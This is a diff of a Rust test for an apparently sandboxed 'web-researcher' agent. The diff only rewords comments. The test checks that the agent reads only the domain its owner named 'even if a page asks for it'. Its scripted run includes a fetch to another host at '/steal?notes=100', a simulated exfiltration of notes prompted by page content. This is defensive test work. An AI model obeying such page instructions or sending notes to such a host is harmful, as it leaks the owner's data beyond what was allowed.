@@ -1,5 +1,5 @@
-//! `web-researcher` in a run: pages of the domain that the owner named, notes, a cited report; and nothing of a domain that nobody
-//! named, whatever a page says.
+//! `web-researcher` in a run: pages of the domain that the owner named, notes, a cited report; and nothing of any other
+//! domain, even if a page asks for it.
 
 use serde_json::json;
 use tests::block_on;
@@ -27,7 +27,7 @@ fn an_approved_researcher_cites_what_it_may_read() {
     assert_eq!((&review["components"], &review["proposal"]["domains"]), (&json!([]), &json!([])), "{review:#}");
     assert_eq!(review["proposal"]["tools"], json!(["fetch", "read", "write", "append", "patch", "list", "grep"]));
 
-    // What it proposes reaches nothing: a domain is the owner's to name.
+    // Its proposal reaches nothing: a domain is the owner's to name.
     world.approve(&["web-researcher", "--proposed"]);
     world.plays(vec![call("fetch", &json!({ "url": page })), says("Nothing could be read.")]);
     world.act("web-researcher", &["--inputs", &inputs]).succeeded();
@@ -49,7 +49,7 @@ fn an_approved_researcher_cites_what_it_may_read() {
     );
     world.plays(vec![
         call("fetch", &json!({ "url": page })),
-        // What came from the web is in a file.
+        // The page from the web is in a file.
         call("grep", &json!({ "pattern": "limit is", "path": ".motor-output" })),
         call("append", &json!({ "path": "notes.md", "content": note })),
         call("fetch", &json!({ "url": other.url("/steal?notes=100") })),
